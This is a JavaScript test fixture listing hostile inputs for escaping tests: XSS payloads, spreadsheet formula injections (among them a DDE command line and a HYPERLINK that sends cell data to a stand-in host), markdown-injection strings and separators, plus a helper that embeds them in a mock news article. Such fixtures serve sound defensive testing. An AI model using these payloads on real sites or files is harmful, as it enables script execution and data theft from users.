// Words that would become something else where a writer forgets to escape: an element, a formula, a link, a field of its own.

/** Would run as a script or load something, each in its own way: `taken()` is what the tests listen for. */
export const scripts = [
  '<script>taken()</script>',
  '</script><script>taken()</script>',
  '<SCRIPT SRC=//taken.invalid/x.js></SCRIPT>',
  '<img src=x onerror=taken()>',
  '<img src="x" onerror="taken()"',
  '"><img src=x onerror=taken()>',
  "'><img src=x onerror=taken()>",
  '" onfocus="taken()" autofocus="',
  "' onpointerenter='taken()' x='",
  '<svg onload=taken()>',
  '<svg><script>taken()</script></svg>',
  '<svg><animate onbegin=taken() attributeName=x dur=1s>',
  '<math><mi xlink:href="javascript:taken()">x</mi></math>',
  '<iframe srcdoc="<script>parent.taken()</script>"></iframe>',
  '<iframe src="javascript:parent.taken()"></iframe>',
  '<object data="javascript:taken()"></object>',
  '<embed src="javascript:taken()">',
  '<video><source onerror=taken()></video>',
  '<audio src=x onerror=taken()>',
  '<details open ontoggle=taken()>',
  '<input autofocus onfocus=taken()>',
  '<select autofocus onfocus=taken()>',
  '<body onload=taken()>',
  '<marquee onstart=taken()>',
  '<meta http-equiv=refresh content="0;url=javascript:taken()">',
  '<base href="https://taken.invalid/">',
  '<link rel=stylesheet href=https://taken.invalid/x.css>',
  '<style>@import url(https://taken.invalid/x.css);</style>',
  '<p style="background:url(https://taken.invalid/x.png)">',
  '<form action=javascript:taken()><button autofocus onfocus=taken()>',
  '<a href="javascript:taken()">ferry</a>',
  '<a href="data:text/html,<script>taken()</script>">ferry</a>',
  '<template><img src=x onerror=taken()></template>',
  '<noscript><p title="</noscript><img src=x onerror=taken()>">',
  '<title></title><img src=x onerror=taken()>',
  '<textarea></textarea><img src=x onerror=taken()>',
  '<!--><img src=x onerror=taken()>-->',
  '<![CDATA[<img src=x onerror=taken()>]]>',
  '<?xml version="1.0"?><img src=x onerror=taken()>',
  '<x/onclick=taken()>',
  '<who-said for=story></who-said>',
  '<scr\0ipt>taken()</scr\0ipt>',
  '&lt;img src=x onerror=taken()&gt;',
  '&#60;script&#62;taken()&#60;/script&#62;',
  '\\u003cscript\\u003etaken()\\u003c/script\\u003e',
  'javascript:taken()',
  '${taken()}',
  '{{constructor.constructor("taken()")()}}',
  '＜script＞taken()＜/script＞',
  '\u2028<img src=x onerror=taken()>\u2029',
  '\u202e<img src=x onerror=taken()>',
];

/** A spreadsheet would reckon these. */
export const formulas = [
  '=1+1', '+1+1', '-1+1', '@SUM(1)', '\t=1+1', '\r=1+1', '\n=1+1', ' =1+1', '＝1+1', '＋1+1', '－1+1', '＠SUM(1)',
  '=HYPERLINK("https://taken.invalid/?"&A1,"ferry")', "=cmd|' /C calc'!A0", '@SUM(1+1)*cmd|\' /C calc\'!A0', '=IMPORTXML("https://taken.invalid","//a")',
];

/** Markdown would draw these: emphasis, code, links, pictures, tables, headings, lists, raw HTML. */
export const markdown = [
  '[ferry](https://taken.invalid/)', '![ferry](https://taken.invalid/x.png)', '[ferry]', '[ferry]: https://taken.invalid/', '<https://taken.invalid/>',
  'https://taken.invalid/ferry', 'http://taken.invalid', 'www.taken.invalid', 'ftp://taken.invalid/a', 'ana@taken.invalid', 'mailto:ana@taken.invalid',
  '# ferry', '### ferry ###', '- ferry', '+ ferry', '* ferry', '1. ferry', '12) ferry', '> ferry', '---', '***', '___', '===',
  '**ferry**', '__ferry__', '*ferry*', '_ferry_', '~~ferry~~', '`ferry`', '``ferry``', '```', '~~~', '    ferry', '\tferry',
  'a | b', '|---|', '- [x] ferry', '[^1]', '[^1]: ferry', '\\', '\\\\', '\\*ferry\\*', '&amp;', '&copy;', '&#42;', '$x$', ':ferry:', '@ferry', 'ferry  ', '==ferry==',
];

/** Other characters that part fields, lines and strings. */
export const separators = ['a,b', 'a;b', 'a\tb', 'a"b', 'a""b', "a'b", 'a\r\nb', 'a\rb', 'a\nb', 'a\0b', 'a\u2028b', 'a\u0085b', '\ufeffa', '🎪', 'o\u0308', '\u202eab', '”', '“'];

export const hostile = [...scripts, ...formulas, ...markdown, ...separators];

/** An article in which such words are said, asserted and cited; each stands at the beginning of a paragraph, in a quotation and in a claim. */
export function articleWith(words) {
  return [
    `${words} The ferry to Tolvik carried 412 people on Monday.`,
    `${words} is what the harbour paid 18 million crowns for in March, said Ana Ruiz, the mayor of Tolvik.`,
    `“${words}” said Peter Hansen, a spokesman for the ferry. “It is ${words}, and nobody asked,” he said.`,
    `${words} Hansen said the fares would rise by 18 percent. “${words}”`,
    `According to the ${words} report, boats are late. ${words} Moe declined to comment.`,
  ].join('\n\n');
}
